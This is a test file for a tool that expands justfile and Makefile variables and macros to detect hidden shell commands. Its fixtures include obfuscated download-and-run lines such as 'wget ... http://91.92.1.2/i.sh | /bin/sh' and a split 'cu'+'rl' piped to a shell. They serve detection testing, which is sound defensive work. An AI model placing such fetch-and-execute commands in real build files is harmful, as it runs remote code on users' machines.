import { describe, expect, it } from 'vitest';
import { buildFileUnits } from '../../src/analysis/build-files.js';
import { analyzeUnits, prepareAnalyzers } from '../../src/analysis/code/index.js';
import { LineMap } from '../../src/analysis/lines.js';
import { ofKind } from '../support/code.js';

/**
 * Build files whose commands are assembled before the shell sees them: a justfile's `{{…}}` interpolation of
 * variables built with `+` and `/`, a Makefile's variables and `$(call …)` of `define` macros. The lines are
 * read as the shell gets them; what cannot be evaluated stays as written.
 */

const texts = (path: string, text: string) =>
  (buildFileUnits(path, text, new LineMap(text)) ?? []).map((u) => u.text);

describe('justfile expressions', () => {
  it('joins strings with + and paths with /, takes env defaults, pastes them into the recipe', () => {
    const jf = [
      'host := env_var_or_default("MIRROR", "dl.pkg-relay.net")',
      'get := \'cu\' + "rl -sS"',
      'url := "https://" + host / "v2" / "setup"',
      'dir := home_directory() / ".tool"',
      '',
      'setup:',
      '    {{get}} {{ url }} -o {{dir}}/setup.sh',
      '    echo {{{{literal}} {{os()}} {{param}}',
    ].join('\n');
    expect(texts('justfile', jf)).toEqual([
      'curl -sS https://dl.pkg-relay.net/v2/setup -o $HOME/.tool/setup.sh',
      'echo {{literal}} {{os()}} {{param}}',
    ]);
  });

  it('leaves a line with nothing to evaluate at its own offsets', () => {
    const units = buildFileUnits(
      'justfile',
      'build:\n    cargo build\n',
      new LineMap('build:\n    cargo build\n'),
    );
    expect(units?.[0]).toMatchObject({ text: 'cargo build', base: 11 });
  });

  it('a backtick value becomes a command substitution; a loop of names stays unevaluated', () => {
    const jf = ['rev := `git rev-parse HEAD`', 'a := b', 'b := a', 't:', '    echo {{rev}} {{a}}'].join('\n');
    expect(texts('justfile', jf)).toEqual(['git rev-parse HEAD', 'echo $(git rev-parse HEAD) {{a}}']);
  });
});

describe('Makefile variables and macros', () => {
  it('expands $(call …) of a define with its arguments, then the variables; $(SHELL) is /bin/sh', () => {
    const mk = [
      'GET ?= wget -qO-',
      'HOST := 91.92.1.2',
      'define run_remote',
      '@$(GET) $(1) | $(SHELL) -s -- $(2)',
      'endef',
      '',
      'tools:',
      '\t$(call run_remote,http://$(HOST)/i.sh,--quiet)',
      '\techo $$HOME',
    ].join('\n');
    expect(texts('Makefile', mk)).toEqual([
      'wget -qO- http://91.92.1.2/i.sh | /bin/sh -s -- --quiet',
      'echo $HOME',
    ]);
  });

  it('reads a macro nobody calls here as a function with unknown arguments', () => {
    const mk = ['FETCH = curl -fsSL', 'define boot', '$(FETCH) $(2) | bash', 'endef'].join('\n');
    expect(texts('tools.mk', mk)).toEqual(['curl -fsSL ${2} | bash']);
  });

  it('a macro without arguments is not read on its own, and a call of an unknown macro stays as written', () => {
    const mk = ['define banner', 'echo building', 'endef', 'x:', '\t$(call nowhere,a)'].join('\n');
    expect(texts('Makefile', mk)).toEqual(['$(call nowhere,a)']);
  });
});

describe('the expanded command is analysed', () => {
  it('a download piped to a shell built from variables is one', async () => {
    const mk = 'D = cu\nR = rl\nRUN = $(SHELL)\nall:\n\t$(D)$(R) -s https://get.tool-hub.net/x | $(RUN)\n';
    await prepareAnalyzers();
    const lines = new LineMap(mk);
    const facts = analyzeUnits(lines, buildFileUnits('Makefile', mk, lines) ?? [], {});
    expect(ofKind(facts, 'execute').some((e) => e.code.taints.includes('download'))).toBe(true);
  });
});
